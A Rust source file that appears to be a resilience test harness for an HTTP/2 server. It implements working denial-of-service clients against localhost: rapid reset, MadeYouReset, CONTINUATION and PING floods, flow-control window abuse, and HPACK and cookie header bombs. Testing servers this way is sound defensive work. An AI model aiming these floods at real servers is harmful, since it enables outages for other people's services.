//! What hostile clients of HTTP/2 send, and the clients that send it.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use proto::h2::PREFACE;
use proto::h2::frame::{self, flag, kind};
use proto::h2::settings::id;

/// Clients of each attack.
const CLIENTS: u32 = 4;
/// Streams that an attack holds open.
const STREAMS: u32 = 100;
/// How long an attacker rests when the server takes nothing, or when there is nothing more to send.
const REST: Duration = Duration::from_millis(1);

/// One attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    settings: &'static [(u16, u32)],
    /// What comes first.
    begin: fn(&mut Vec<u8>),
    /// What is sent again and again; the number counts from 0. Nothing: what was begun is held.
    again: fn(u32, &mut Vec<u8>),
    /// Whether the attacker reads what it is sent.
    reads: bool,
}

const NOTHING: Attack = Attack {
    name: "",
    settings: &[],
    begin: |_| {},
    again: |_, _| {},
    reads: true,
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "unknown frames",
        again: |_, out| raw(0x77, 0, 0, b"whatever", out),
        ..NOTHING
    },
    Attack {
        name: "PING",
        again: |_, out| frame::write_ping(false, [7; 8], out),
        ..NOTHING
    },
    Attack {
        name: "SETTINGS",
        again: |n, out| frame::write_settings(&[(id::INITIAL_WINDOW_SIZE, n % 1000)], out),
        ..NOTHING
    },
    Attack {
        name: "rapid reset",
        again: |n, out| {
            request(n, true, out);
            frame::write_reset(stream(n), proto::h2::ErrorCode::CANCEL, out);
        },
        ..NOTHING
    },
    Attack {
        name: "MadeYouReset",
        again: |n, out| {
            request(n, true, out);
            // A window that opens by nothing is a stream error.
            raw(kind::WINDOW_UPDATE, 0, stream(n), &[0; 4], out);
        },
        ..NOTHING
    },
    Attack {
        name: "CONTINUATION",
        begin: |out| raw(kind::HEADERS, 0, 1, &[0x82], out),
        again: |_, out| raw(kind::CONTINUATION, 0, 1, &[], out),
        ..NOTHING
    },
    Attack {
        name: "empty DATA",
        begin: |out| request(0, false, out),
        again: |_, out| frame::write_data_head(1, 0, false, out),
        ..NOTHING
    },
    Attack {
        name: "window drip",
        settings: &[(id::INITIAL_WINDOW_SIZE, 0)],
        begin: |out| (0..STREAMS).for_each(|n| request(n, true, out)),
        again: |n, out| frame::write_window_update(stream(n % STREAMS), 1, out),
        ..NOTHING
    },
    Attack {
        name: "window shut",
        settings: &[(id::INITIAL_WINDOW_SIZE, 0)],
        begin: |out| (0..STREAMS).for_each(|n| request(n, true, out)),
        ..NOTHING
    },
    Attack {
        name: "reads nothing",
        settings: &[(id::INITIAL_WINDOW_SIZE, (1 << 31) - 1)],
        begin: |out| {
            frame::write_window_update(0, (1 << 31) - 1 - 65_535, out);
            (0..STREAMS).for_each(|n| request(n, true, out));
        },
        reads: false,
        ..NOTHING
    },
    Attack {
        name: "HPACK bomb",
        again: |n, out| {
            // An entry of 4,000 bytes in the table, and then thousands of references to it.
            let mut block = vec![0x82, 0x86, 0x84, 0x40, 1, b'a', 0x7f, 0xa1, 0x1e];
            block.extend(std::iter::repeat_n(b'x', 4000));
            block.extend(std::iter::repeat_n(0xbe, 12_000));
            bomb(n, &block, out);
        },
        ..NOTHING
    },
    Attack {
        name: "cookie bomb",
        again: |n, out| {
            let mut block = vec![0x82, 0x86, 0x84, 0x60, 0];
            block.extend(std::iter::repeat_n(0xbe, 16_000));
            bomb(n, &block, out);
        },
        ..NOTHING
    },
];

fn raw(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    frame::write_head(payload.len() as u32, kind, flags, stream, out);
    out.extend_from_slice(payload);
}

fn bomb(n: u32, block: &[u8], out: &mut Vec<u8>) {
    let flags = flag::END_HEADERS | flag::END_STREAM;
    raw(kind::HEADERS, flags, stream(n), block, out);
}

/// The stream of the nth request of a connection.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

/// `GET /big`, or with content to come `POST /big`.
fn request(n: u32, ends: bool, out: &mut Vec<u8>) {
    let mut block = vec![if ends { 0x82 } else { 0x83 }, 0x86, 0x04, 4];
    block.extend_from_slice(b"/big\x01\x09localhost");
    let flags = flag::END_HEADERS | if ends { flag::END_STREAM } else { 0 };
    raw(kind::HEADERS, flags, stream(n), &block, out);
}

/// Lets this thread run only while nothing else wants its core. Attackers are elsewhere in life: they take the server's
/// time, not that of the machine of a good client, whose turn would come some milliseconds later for each of them.
fn yield_to_others() {
    let thread = rustix::thread::gettid().as_raw_nonzero().to_string();
    // Where it can not be had the attackers run like everybody; `how` in the report says what is meant.
    let _ = Command::new("chrt")
        .args(["--idle", "--pid", "0", &thread])
        .status();
}

impl Attack {
    /// Attacks for a time, each client on a connection after the other. Gives how many connections that took.
    pub(super) fn run(&self, port: u16, time: Duration) -> u32 {
        let end = Instant::now() + time;
        let client = || {
            yield_to_others();
            let mut connections = 0;
            while Instant::now() < end {
                connections += 1;
                // Whatever ends the connection, the next one begins.
                if self.attack(port, end).is_none() {
                    std::thread::sleep(REST);
                }
            }
            connections
        };
        std::thread::scope(|scope| {
            let clients: Vec<_> = (0..CLIENTS).map(|_| scope.spawn(client)).collect();
            let ended = clients.into_iter().filter_map(|client| client.join().ok());
            ended.sum()
        })
    }

    /// One connection; `None` when the server ends it.
    fn attack(&self, port: u16, end: Instant) -> Option<()> {
        let mut socket = TcpStream::connect(("127.0.0.1", port)).ok()?;
        socket.set_nonblocking(true).ok()?;
        let mut out = PREFACE.to_vec();
        frame::write_settings(self.settings, &mut out);
        (self.begin)(&mut out);
        let mut n = 0;
        let mut sent = 0;
        let mut input = vec![0; 64 * 1024];
        while Instant::now() < end {
            if sent == out.len() {
                out.clear();
                sent = 0;
                while out.len() < 16 * 1024 {
                    let before = out.len();
                    (self.again)(n, &mut out);
                    n += 1;
                    if out.len() == before {
                        break;
                    }
                }
            }
            let mut rests = out.is_empty();
            if !out.is_empty() {
                match socket.write(&out[sent..]) {
                    Ok(count) => sent += count,
                    Err(error) if error.kind() == ErrorKind::WouldBlock => rests = true,
                    Err(_) => return None,
                }
            }
            if self.reads {
                match socket.read(&mut input) {
                    Ok(0) => return None,
                    Ok(_) => rests = false,
                    Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                    Err(_) => return None,
                }
            }
            if rests {
                std::thread::sleep(REST);
            }
        }
        Some(())
    }
}
